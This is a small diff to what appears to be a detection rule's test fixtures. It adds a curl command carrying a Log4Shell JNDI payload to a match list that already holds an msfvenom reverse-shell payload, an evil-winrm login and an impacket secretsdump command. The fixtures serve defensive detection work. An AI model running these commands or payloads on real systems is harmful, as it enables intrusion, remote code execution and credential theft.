@@ -31,6 +31,7 @@ RULES = family(
             "$ msfvenom -p linux/x64/shell_reverse_tcp -f elf",
             "$ evil-winrm -i 10.0.0.5 -u x",
             "$ impacket-secretsdump x@10.0.0.5",
+            "$ curl -H 'User-Agent: ${jndi:ldap://10.0.0.9/a}' https://app.example.com/login",
         ],
         no_match=["$ sqlmap -u http://localhost:5000/?id=1", "$ sqlmap --version", "$ sqlite3 app.db .tables"],
     ),
